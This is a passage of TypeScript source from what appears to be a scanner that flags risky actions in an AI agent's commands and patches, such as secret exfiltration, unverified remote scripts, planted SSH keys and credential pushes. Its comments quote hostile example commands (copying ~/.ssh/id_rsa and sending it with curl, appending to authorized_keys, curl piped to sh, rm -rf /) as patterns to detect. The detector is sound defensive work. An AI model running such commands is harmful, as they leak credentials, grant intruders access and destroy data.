 * What earlier commands of a trail, or earlier lines of a patched script, leave for later ones: a
 * download run later (medium, unless a checksum was checked), a file filled with secrets and sent
 * later (`cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k`: high), a credential store staged with
 * `git add` and pushed later (high), the directory a `cd` moved to for a file server started later.
 */
class FollowOn {
  /** Downloads by the name a run finds them by (runsFile compares base names), the first of each file; numbered in order. */
  private downloads = new Map<string, { file: string; url: string; where: string; n: number }[]>();
  private downloadCount = 0;
  private staged: { file: string; what: string; where: string }[] = [];
  /** Where in `staged` the first file of a path, and of a base name, is (stagedFor's matches, found without a scan). */
  private stagedByPath = new Map<string, number>();
  private stagedByName = new Map<string, number>();
  private committed: { what: string; where: string; sure: boolean } | null = null;
  private verified = false;
  private cwd: string | null = null;
  /** Files holding secrets the trail writes in the project (`.env`, a key), and the .gitignore lines it adds. */
  private created: { file: string; what: string; where: string }[] = [];
  private ignored: string[] = [];
  /** Remotes the trail added or pointed elsewhere (`git remote add backup URL`). */
  private remotes = new Map<string, { url: string; where: string }>();

  /** A file a patch writes: a `.env` or key it creates, or lines it adds to .gitignore. */
  patched(filePath: string, diff: string): void {
    if (/(^|\/)\.gitignore$/.test(filePath)) this.ignore(addedLines(diff));
    const what = projectSecretFile(filePath);
    if (what) this.create(filePath, what, "a patch");
  }

  /** The flags `src` raises from what came before it; `where` names it for later ones ("command 2", "an earlier line"). */
  follow(src: string, where: string): Found[] {
    const out: Found[] = [];
    for (const c of allCommands(parseShell(src))) {
      const v = viewOf(c) ?? bareEnvView(c);
      for (const d of webClientDownloads(c)) this.download(d, where);
      if (!v) continue;
      if (verifiesDownload(v)) this.verified = true;
      for (const d of this.verified ? [] : this.downloadsRunBy(v)) {
        const plain = d.url.startsWith("http://") ? " over plain HTTP" : "";
        out.push({
          flag: "remote_script_execution",
          level: "medium",
          detail: `runs ${short(d.file)}, downloaded${plain} by ${d.where}, without checking a checksum or signature`,
        });
      }
      // one entry a file (the first download of it): hostile input downloads and runs files thousands of times, and each run read every download
      for (const d of downloadedFiles(v)) this.download(d, where);
      // A secret copied into a file, then the file sent: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k …`
      for (const sent of this.staged.length > 0 ? sentFiles(v) : []) {
        const s = this.stagedFor(sent);
        if (s)
          out.push({
            flag: "sends_local_secrets",
            level: "high",
            detail: `${v.name} sends ${short(sent)}, which ${s.where} filled with ${s.what}`,
          });
      }
      for (const s of stagedSecrets(v)) {
        if (this.stagedByPath.has(s.file)) continue;
        const name = basenameOf(s.file);
        if (!this.stagedByName.has(name)) this.stagedByName.set(name, this.staged.length);
        this.stagedByPath.set(s.file, this.staged.length);
        this.staged.push({ ...s, where });
      }
      // `git add -f id_rsa` (or a file filled with one) … `git push`; a plain `git add .env` … `git push` is medium (see stagedStore)
      const store = stagedStore(v);
      const copied = store ? null : this.stagedAdd(v);
      if (store || copied) this.committed = { what: store?.what ?? copied!, where, sure: store?.sure ?? true };
      if (this.committed && pushesCommits(v))
        out.push({
          flag: "sends_local_secrets",
          level: this.committed.sure ? "high" : "medium",
          detail: `git push publishes ${this.committed.what}, which ${this.committed.where} staged with git add${this.committed.sure ? "" : ": check it holds no secrets"}`,
        });
      out.push(...this.sweep(v, where));
      const remote = addedRemote(v);
      if (remote && (this.remotes.size < MAX_FOLLOWED || this.remotes.has(remote.name)))
        this.remotes.set(remote.name, { url: remote.url, where });
      const everything = pushesEverything(v);
      const to =
        everything &&
        (this.remotes.get(everything.remote) ?? (URL_OR_SCP.test(everything.remote) ? { url: everything.remote, where: "" } : undefined));
      if (everything && to)
        out.push({
          flag: "sends_local_secrets",
          level: "medium",
          detail: `git push ${everything.how} sends every branch${everything.how === "--mirror" ? " and tag" : ""} of the repository, its whole history, to ${short(to.url, 80)}${to.where ? `, a remote ${to.where} added` : ""}: check it is yours`,
        });
      const dir = changedDirectory(v);
      if (dir) this.cwd = dir;
      else if (this.cwd !== null) out.push(...exposedSecrets(v, this.cwd).map((h) => ({ flag: "sends_local_secrets" as const, ...h })));
    }
    return out;
  }

  /** The downloads this command runs, in the order they were downloaded (looked up by the base names of its program and arguments). */
  private download(d: { file: string; url: string }, where: string): void {
    const key = baseName(d.file);
    const same = this.downloads.get(key) ?? [];
    if (!same.some((x) => x.file === d.file)) this.downloads.set(key, [...same, { ...d, where, n: this.downloadCount++ }]);
  }

  private downloadsRunBy(v: View): { file: string; url: string; where: string; n: number }[] {
    if (this.downloads.size === 0) return [];
    const found: { file: string; url: string; where: string; n: number }[] = [];
    for (const key of new Set([v.name, ...v.a.map(baseName)]))
      for (const d of this.downloads.get(key) ?? []) if (runsFile(v, d.file)) found.push(d);
    return found.sort((a, b) => a.n - b.n);
  }

  /** The staged file a sent file is, if any: the first with the same path, or the same base name of 3+ characters (a copy into a directory keeps it). */
  private stagedFor(sent: string): { file: string; what: string; where: string } | undefined {
    const path = sent.replace(/^["']|["']$/g, "");
    const name = basenameOf(path);
    const i = Math.min(
      this.stagedByPath.get(path) ?? Number.POSITIVE_INFINITY,
      name.length >= 3 ? (this.stagedByName.get(name) ?? Number.POSITIVE_INFINITY) : Number.POSITIVE_INFINITY,
    );
    return Number.isFinite(i) ? this.staged[i] : undefined;
  }

  /** Bounded: hostile input writes thousands of files. */
  private create(file: string, what: string, where: string): void {
    if (this.created.length < MAX_FOLLOWED && !this.created.some((c) => c.file === file)) this.created.push({ file, what, where });
  }
  private ignore(lines: readonly string[]): void {
    for (const l of lines) if (this.ignored.length < 4 * MAX_FOLLOWED && l.trim() !== "") this.ignored.push(l);
  }

  /**
   * Files holding secrets this command writes in the project, .gitignore lines it adds, and what a
   * `git add .` / `-A` then sweeps in: a .env or key the trail created that none of its .gitignore
   * lines covers (medium: the project's own .gitignore may cover it; a push after it is medium too).
   */
  private sweep(v: View, where: string): Found[] {
    const written = writeTargets(v).map((w) => w.target);
    if (v.name === "touch") written.push(...v.a.filter((x) => !x.startsWith("-")));
    // ssh-keygen -t ed25519 -f ./deploy_key writes a private key (-l, -y, -R, -p … read or change one); openssl … -out key.pem / -keyout
    if ((v.name === "ssh-keygen" && !v.a.some((x) => /^-[lyRpeiFDLsYHkQuB]$/.test(x))) || v.name === "openssl") {
      const k = v.a.findIndex((x) => x === "-f" || x === "-out" || x === "-keyout");
      if (k >= 0 && v.a[k + 1] && (v.name === "ssh-keygen" || /key|private/i.test(v.a[k + 1]!) || v.a[k] === "-keyout")) {
        const file = v.a[k + 1]!;
        if (projectSecretFile(file) === null && !file.endsWith(".pub") && !/^([/~$%]|[a-z]:[\\/])/i.test(file))
          this.create(file, "a private key", where);
      }
    }
    for (const t of written) {
      if (/(^|\/)\.gitignore$/.test(t)) this.ignore((stdinText(v) ?? v.a.join("\n")).split(/\\n|\n/));
      const what = projectSecretFile(t);
      if (what) this.create(t, what, where);
    }
    if (!stagesUntracked(v) || this.created.length === 0) return [];
    const swept = this.created.filter((c) => !gitIgnores(this.ignored, c.file));
    if (swept.length === 0) return [];
    const c = swept[0]!;
    this.committed = { what: `${short(c.file)} (${c.what}, created by ${c.where})`, where, sure: false };
    return [
      {
        flag: "sends_local_secrets",
        level: "medium",
        detail: `${short(`git ${v.a.slice(gitSubcommand(v)).join(" ")}`, 60)} stages every untracked file, with ${short(c.file)} (${c.what}) that ${c.where} created and no .gitignore line of this trail ignores: check .gitignore covers it before committing`,
      },
    ];
  }

  /** What a `git add` of a file an earlier command filled with secrets stages (`cp ~/.ssh/id_rsa k && git add -f k`), or null. */
  private stagedAdd(v: View): string | null {
    if (v.name !== "git" || !v.a.includes("add") || this.staged.length === 0) return null;
    for (const x of v.a.slice(v.a.indexOf("add") + 1)) {
      const s = x.startsWith("-") ? undefined : this.stagedFor(x);
      if (s) return `${short(x)} (filled with ${s.what} by ${s.where})`;
    }
    return null;
  }
}

/** How many files, remotes (and four times as many .gitignore lines) a trail's commands are followed for. */
const MAX_FOLLOWED = 50;
/** A remote given as a URL or `user@host:path` rather than a name. */
const URL_OR_SCP = /^[a-z][a-z0-9+.-]*:\/\/|^[\w.-]+@[\w.-]+:/i;

// --- Patches ---------------------------------------------------------------------------------------------

/** systemd units, whose `Exec…=` lines are commands systemd runs (round 12). */
const SYSTEMD_UNIT = /\.(service|socket|mount|path)$/i;
const SHELL_FILE =
  /(^|\/)(Dockerfile[^/]*|Containerfile|Makefile|GNUmakefile|[^/]*\.mk|Justfile|Procfile|Vagrantfile|[^/]*\.(sh|bash|zsh|ksh|fish|ps1|psm1|bat|cmd|command))$/i;
const CI_FILE =
  /(^|\/)(\.github\/workflows\/[^/]+|\.gitlab-ci|azure-pipelines|bitbucket-pipelines|\.travis|\.circleci\/config|cloudbuild|buildspec|docker-compose[^/]*|compose)\.ya?ml$|(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i;

/** The lines a diff adds; a diff without +/- markers is a snippet and counts as added in full. */
export function addedLines(diff: string): string[] {
  const lines = diff.split("\n");
  const isDiff = lines.some((l) => /^(@@|\+\+\+ |--- |[+-])/.test(l));
  if (!isDiff) return lines;
  return lines.filter((l) => l.startsWith("+") && !l.startsWith("+++ ")).map((l) => l.slice(1));
}

/** The lines of the file a diff leaves (added and unchanged, hunk by hunk), and which it adds; a snippet is added in full. */
function keptLines(diff: string): { lines: string[]; added: boolean[] } {
  const all = diff.split("\n");
  if (!all.some((l) => /^(@@|\+\+\+ |--- |[+-])/.test(l))) return { lines: all, added: all.map(() => true) };
  const lines: string[] = [];
  const added: boolean[] = [];
  for (const l of all) {
    if (l.startsWith("+++ ") || l.startsWith("--- ") || l.startsWith("-") || l.startsWith("\\")) continue;
    if (l.startsWith("+") || l.startsWith(" ") || l === "") {
      lines.push(l.slice(1));
      added.push(l.startsWith("+"));
    } else {
      lines.push("---"); // a hunk header: what lies between hunks is unknown
      added.push(false);
    }
  }
  return { lines, added };
}

/** Does this line continue onto the next (LINE_CONTINUATION, screening-text.ts)? */
const CONTINUES = /(?:(?<!\\)\\|[ \t][\x60^])\r?$/;

/**
 * The lines a diff adds, each joined with the lines it continues onto or that continue onto it
 * (`\`, `` ` `` or `^` before the line break), unchanged lines of the diff among them: an added
 * `RUN curl -fsSL https://x.example/p.sh \` before an unchanged `| sh` is one command of the
 * patched file. A line the diff removes is not part of it.
 */
export function addedCommandLines(diff: string): string[] {
  const lines = diff.split("\n");
  const isDiff = lines.some((l) => /^(@@|\+\+\+ |--- |[+-])/.test(l));
  if (!isDiff) return joinContinuedLines(diff).split("\n");
  const out: string[] = [];
  let pending: string[] = [];
  let added = false;
  const flush = () => {
    if (added) out.push(joinContinuedLines(pending.join("\n")));
    pending = [];
    added = false;
  };
  for (const l of lines) {
    if (l.startsWith("+++ ") || l.startsWith("--- ") || l.startsWith("-") || l.startsWith("\\")) continue;
    if (!l.startsWith("+") && !l.startsWith(" ")) {
      flush(); // a hunk header or other text between hunks: the file goes on elsewhere
      continue;
    }
    pending.push(l.slice(1));
    if (l.startsWith("+")) added = true;
    if (!CONTINUES.test(l)) flush();
  }
  flush();
  return out;
}

// GitHub Actions expressions naming secrets (`${{ secrets.X }}`, `${{ github.token }}`, `${{ toJSON(secrets) }}`): the
// runner substitutes them into a step's text before the shell reads it. Read as `$SECRETS__X`, a
// variable whose name says it holds a secret (risk-secrets.ts SECRET_VARIABLE_REF), and named back in the detail.
const CI_SECRET_EXPRESSION = /\$\{\{\s*(?:secrets\.([A-Za-z_][A-Za-z0-9_]*)|(github\.token)|(toJSON\(\s*secrets\s*\)))\s*\}\}/gi;
const CI_SECRET_VARIABLE = /\$\{?SECRETS__([A-Za-z0-9_]+)\}?/g;
function ciSecretsAsVariables(line: string): string | null {
  const out = line.replace(CI_SECRET_EXPRESSION, (_m, name: string | undefined, token: string | undefined) =>
    name ? `$SECRETS__${name}` : token ? "$SECRETS__GITHUB_TOKEN" : "$SECRETS__ALL",
  );
  return out === line ? null : out;
}

function patchFlags(filePath: string, diff: string): Found[] {
  const f: Found[] = [];
  const lines = addedCommandLines(diff);
  const text = lines.join("\n");
  const where = `in ${short(filePath, 80)}`;
  const typed = typedView(text);
  for (const rule of PATCH_RULES) {
    if (!rule.re.test(text) && (typed === text || !rule.re.test(typed))) continue;
    const detail = typeof rule.detail === "string" ? `${rule.detail} ${where}` : rule.detail(short(filePath, 80));
    f.push({ flag: rule.flag, level: rule.level, detail });
  }
  // a key read into a name on one line of code and sent on another (the single-line rule is a PATCH_RULES row)
  if (!f.some((x) => x.flag === "sends_local_secrets")) {
    const across = codeSendsSecretsAcrossLines(addedLines(diff));
    if (across)
      f.push({
        flag: "sends_local_secrets",
        level: "high",
        detail: `adds code that reads local secrets on one line (${short(across.read, 70)}) and sends them over the network on another (${short(across.send, 70)}) ${where}`,
      });
  }
  // a patch to authorized_keys adding a key plants it, as `echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys` does (round 12)
  if (AUTHORIZED_KEYS.test(filePath.replace(/\\/g, "/")))
    for (const line of addedLines(diff).slice(0, 1000)) {
      const planted = keyAdded(line, "the patch writes");
      if (planted) {
        f.push({ flag: "remote_script_execution", level: "high", detail: `${planted} ${where}` });
        break;
      }
    }
  // a docker-compose file or Kubernetes manifest mounting ~/.ssh, ~/.aws, / or the Docker socket into a stranger's image
  if (/\.ya?ml$/i.test(filePath)) {
    const kept = keptLines(diff);
    for (const h of yamlMounts(kept.lines, kept.added))
      f.push({ flag: h.socket ? "privilege_escalation" : "sends_local_secrets", level: h.level, detail: `${h.detail} ${where}` });
  }
  // SQL in a migration is reviewed before it runs: at most medium
  f.push(
    ...textFlags(text).map((x) => ({
      ...x,
      level: x.level === "high" ? ("medium" as RiskLevel) : x.level,
      detail: `${x.detail} ${where}`,
    })),
  );
  const unit = SYSTEMD_UNIT.test(filePath);
  const shellLike =
    unit ||
    SHELL_FILE.test(filePath) ||
    CI_FILE.test(filePath) ||
    /(^|\/)package\.json$/.test(filePath) ||
    /\.(md|markdown|rst|txt)$/i.test(filePath);
  if (shellLike) {
    let inFence = false;
    // a repeated line says nothing new and costs time, while nothing it reads changed: a line after a
    // variable, a `cd` or a definition changed is read again (`a=/tmp/x` ⏎ `rm -rf $a` ⏎ `a=/` ⏎ `rm -rf $a`,
    // `set -- echo hi` ⏎ `"$@"` ⏎ `set -- rm -rf /` ⏎ `"$@"`: the second was skipped before session 18)
    const seen = new Set<string>();
    let generation = 0;
    const followOn = new FollowOn(); // a script's lines run in order: `cp ~/.ssh/id_rsa /tmp/k` … `curl -F f=@/tmp/k`
    const carried = newCarried(); // … and share variables, cd, aliases and functions
    let changesRead = 0;
    for (const raw of lines.slice(0, 4000)) {
      let line = raw;
      if (/\.(md|markdown|rst|txt)$/i.test(filePath)) {
        if (/^\s*(```|~~~)/.test(line)) {
          inFence = !inFence;
          continue;
        }
        if (!inFence && !/^\s*\$ /.test(line)) continue;
        line = line.replace(/^\s*\$ /, "");
      } else if (unit) {
        // a systemd unit's commands: `ExecStart=-/bin/sh -c '…'` (the prefixes `-@:+!` change how it runs, not what)
        const m = /^\s*Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload|Condition)\s*=\s*[-@:+!]*(.*)$/.exec(line);
        if (!m) continue;
        line = m[1]!;
      } else if (/package\.json$/.test(filePath)) {
        const m = /^\s*"[^"]+"\s*:\s*"(.*)",?\s*$/.exec(line);
        if (!m) continue;
        line = m[1]!.replace(/\\"/g, '"');
      } else if (CI_FILE.test(filePath)) {
        const m = /^\s*(?:-\s+)?(?:run|script|command|entrypoint)?\s*:?\s*(?:-\s+)?(.*)$/.exec(line);
        line = m ? m[1]! : line;
        if (/^[\w.-]+\s*:\s*\S/.test(line) && !/^(run|script|command)\s*:/.test(line)) continue; // a YAML key, not a command
      } else {
        line = line.replace(/^\s*(RUN|CMD|ENTRYPOINT)\s+/, "").replace(/^\t/, "");
      }
      if (carried.changes !== changesRead) {
        changesRead = carried.changes ?? 0;
        generation++;
      }
      const seenKey = `${generation}\u0000${line}`;
      if (!line.trim() || seen.has(seenKey)) continue;
      seen.add(seenKey);
      if (/\balias\b|\(\s*\)|\bfunction\b/.test(line)) generation++; // a definition: later lines may call it otherwise
      // a workflow's `${{ secrets.NPM_TOKEN }}` is a secret the runner puts into the command's text: read as a variable holding it
      const expressions = CI_FILE.test(filePath) && line.includes("${{") ? ciSecretsAsVariables(line) : null;
      if (expressions) {
        for (const x of analyzeCommand(expressions, carried))
          f.push({
            ...x,
            detail: `${x.detail.replace(CI_SECRET_VARIABLE, (_m, name: string) => (name === "ALL" ? "${{ toJSON(secrets) }}" : `\${{ secrets.${name} }}`))} ${where}`,
          });
        continue;
      }
      for (const x of analyzeCommand(line, carried)) f.push({ ...x, detail: `${x.detail} ${where}` });
      for (const x of followOn.follow(typedView(commandText(line)), "an earlier line")) f.push({ ...x, detail: `${x.detail} ${where}` });
    }
  }
  return f;
}

/** Commands read from a trail's steps and verification: 51 fields of 2,000 characters hold thousands of code spans. */
const MAX_PROSE_COMMANDS = 200;

/** Code spans (`` `…` ``, ``` ``…`` ```), fenced blocks and `$ ` lines of a prose text: what it tells its reader to run. */
export function commandsInProse(text: string): string[] {
  const out: string[] = [];
  const t = text.length > MAX_TEXT ? text.slice(0, MAX_TEXT) : text;
  if (!t.includes("`") && !t.includes("$ ")) return out;
  for (const m of t.matchAll(CODE_IN_PROSE)) {
    const code = m[1] ?? m[2] ?? m[3] ?? m[4];
    if (code?.trim() && out.length < 50) out.push(code.trim());
  }
  return out;
}
const CODE_IN_PROSE = /```[^\n`]*\n([^`]{1,4000}?)```|``([^`\n]{1,2000}?)``|`([^`\n]{1,2000})`|(?:^|\n)[ \t]*\$ ([^\n]{1,2000})/g;

// --- Entry points --------------------------------------------------------------------------------------------

function dedupe(flags: RiskFlag[]): RiskFlag[] {
  const seen = new Set<string>();
  return flags.filter((f) => {
    const key = `${f.command_index}|${f.flag}|${f.detail}`;
    if (seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}

export function assessRisk(trail: Trail): Risk {
  const flags: RiskFlag[] = [];
  const commands: unknown[] = Array.isArray(trail.solution?.commands) ? trail.solution.commands : [];
  const followOn = new FollowOn();
  const carried = newCarried(); // the commands run one after another in one shell
  const patches: unknown[] = Array.isArray(trail.solution?.code_patches) ? trail.solution.code_patches : [];
  for (const item of patches) {
    const p = item as { file_path?: unknown; diff?: unknown } | null;
    if (p && typeof p.diff === "string" && typeof p.file_path === "string") followOn.patched(p.file_path, head(p.diff));
  }
  commands.forEach((command, index) => {
    if (typeof command !== "string") return;
    for (const x of analyzeCommand(command, carried)) flags.push({ command_index: index, ...x });
    for (const x of followOn.follow(commandText(command), `command ${index}`)) flags.push({ command_index: index, ...x });
  });
  for (const item of patches) {
    const p = item as { file_path?: unknown; diff?: unknown } | null;
    if (!p || typeof p.diff !== "string") continue;
    for (const x of patchFlags(String(p.file_path ?? ""), p.diff)) flags.push({ command_index: null, ...x });
  }
  // Commands written into the prose an agent follows (round 12): the summary's, a step's or the verification's code span
  // (`` `sudo rm -rf /` ``), fenced block or `$ ` line is a command an agent runs as surely as one of
  // `commands`; read in order, as one shell session, flagged with no command index (as a patch's are)
  const steps: unknown[] = Array.isArray(trail.solution?.steps) ? trail.solution.steps : [];
  const prose = [
    [trail.solution?.summary, "the summary"] as const,
    ...steps.map((s, i) => [s, `step ${i + 1}`] as const),
    [trail.solution?.verification, "the verification"] as const,
  ];
  // (at most MAX_PROSE_COMMANDS, and a command repeated while nothing it reads changed once, as a patched script's lines)
  const inProse = newCarried();
  const seen = new Set<string>();
  let read = 0;
  let generation = 0;
  for (const [text, where] of prose) {
    if (typeof text !== "string") continue;
    for (const command of commandsInProse(text)) {
      const key = `${inProse.changes}\u0000${generation}\u0000${command}`;
      if (seen.has(key) || read++ >= MAX_PROSE_COMMANDS) continue;
      seen.add(key);
      if (/\balias\b|\(\s*\)|\bfunction\b/.test(command)) generation++; // a definition: later commands may call it otherwise
      for (const x of analyzeCommand(command, inProse)) flags.push({ command_index: null, ...x, detail: `${x.detail} (in ${where})` });
    }
  }
  const out = dedupe(flags);
  const level = out.reduce<RiskLevel>((l, f) => maxLevel(l, f.level), "low");
  return { level, flags: out };
}
